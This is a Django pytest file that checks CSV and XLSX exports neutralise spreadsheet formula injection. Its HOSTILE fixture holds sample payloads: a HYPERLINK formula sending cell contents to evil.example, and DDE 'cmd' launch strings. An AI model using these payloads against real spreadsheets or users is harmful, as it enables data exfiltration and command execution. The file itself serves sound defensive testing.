"""Text typed by applicants, participants or editors never runs as a formula in the secretariat's spreadsheets
(OWASP "CSV injection"): CSV cells get an apostrophe, XLSX cells Excel's hidden quote prefix; numbers and dates
written by the code stay numbers and dates, and a phone number still reads as one."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.urls import reverse

from home import roles
from programs.exports import FORMULA_STARTS, is_formula_like, neutralise
from programs.models import Application, Match, Meeting

pytestmark = pytest.mark.django_db

BOM = "\ufeff"
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Tıkla")',
    "institution_other": "+cmd|' /C calc'!A0",
    "unit": "-2+3",
    "position": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description": "\t=1+1",
    "availability": "\r=1+1",
}


@pytest.fixture
def secretary(client):
    user = get_user_model().objects.create_user("sekreter_formul", "sekreter.formul@example.org", "x")
    user.groups.add(Group.objects.get(name=roles.SECRETARIAT))
    client.force_login(user)
    return user


@pytest.fixture
def hostile_application(open_call):
    """Written past Application.save, which now drops the leading tab and CR: rows stored before the input rules
    (or by any other path) must still leave the export harmless."""
    application = Application.objects.create(
        call=open_call("tr"), role="mentee", name="x", email="formul@example.org", phone="+90 312 000 00 00",
        description="x", data_consent=True,
    )
    Application.objects.filter(pk=application.pk).update(**HOSTILE)
    application.refresh_from_db()
    return application


def download(client, url):
    response = client.get(url)
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(content: bytes):
    text = content.decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised_and_plain_text_is_not(start):
    assert is_formula_like(start + "x") and neutralise(start + "x") == "'" + start + "x"
    assert neutralise("Çağla =1") == "Çağla =1"
    assert neutralise(-3) == -3


def test_application_csv_has_no_live_formula_and_keeps_the_text(client, secretary, hostile_application):
    rows = csv_rows(download(client, reverse("programs_application:index") + "?export=csv"))
    header, row = rows[0], next(r for r in rows[1:] if r[0] == hostile_application.reference)
    cells = dict(zip(header, row))
    for value in HOSTILE.values():
        assert "'" + value in cells.values(), value
    assert cells["Telefon"] == "'+90 312 000 00 00"
    assert not any(is_formula_like(cell) for cell in row)


def test_application_xlsx_cells_are_text_with_a_quote_prefix_and_unchanged_values(client, secretary, hostile_application):
    sheet = openpyxl.load_workbook(io.BytesIO(download(client, reverse("programs_application:index") + "?export=xlsx"))).active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    row = {header[i]: cell for i, cell in enumerate(next(r for r in rows[1:] if r[0].value == hostile_application.reference))}
    phone = row["Telefon"]
    assert (phone.value, phone.data_type, phone.quotePrefix) == ("+90 312 000 00 00", "s", True)
    stored = {value.replace("\r", "\n") for value in HOSTILE.values()}  # XML reads a carriage return as a line feed
    hostile_cells = [cell for cell in row.values() if cell.value in stored]
    assert len(hostile_cells) == len(HOSTILE)
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile_cells)
    created = next(cell for cell in row.values() if isinstance(cell.value, datetime.datetime))
    assert not created.quotePrefix


def test_meeting_notes_typed_through_a_private_link_are_neutralised_but_numbers_are_not(client, secretary, confirmed_match):
    Meeting.objects.create(match=Match.objects.get(), held_on=datetime.date(2026, 3, 9), format="online", duration_minutes=45,
                           topic="=1+1", notes="-kira artışı +%20", logged_by="mentee")
    rows = csv_rows(download(client, reverse("meeting:index") + "?export=csv"))
    cells = dict(zip(rows[0], rows[1]))
    assert cells["Konu"] == "'=1+1"
    assert cells["Kısa notlar"] == "'-kira artışı +%20"
    assert cells["Süre (dakika)"] == "45"
    sheet = openpyxl.load_workbook(io.BytesIO(download(client, reverse("meeting:index") + "?export=xlsx"))).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[1][values[0].index("Konu")] == "=1+1"
    assert values[1][values[0].index("Süre (dakika)")] == 45


def test_xlsx_export_survives_control_characters_already_in_the_database(client, secretary, open_call):
    Application.objects.create(call=open_call("tr"), role="mentee", email="esc@example.org", phone="+90 312 000 00 01",
                               name="Ali\x1b[31m Veli\x07", data_consent=True)
    sheet = openpyxl.load_workbook(io.BytesIO(download(client, reverse("programs_application:index") + "?export=xlsx"))).active
    assert "Ali[31m Veli" in [cell.value for row in sheet.iter_rows() for cell in row]


def test_dashboard_csv_neutralises_call_titles_and_names(client, secretary, confirmed_match, open_call):
    call = open_call("tr")
    call.title = "=HYPERLINK(\"http://evil.example\")"
    call.save()
    rows = csv_rows(download(client, reverse("matching_dashboard:index") + "?export=csv"))
    assert rows
    assert not any(is_formula_like(cell) for row in rows for cell in row)
    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)
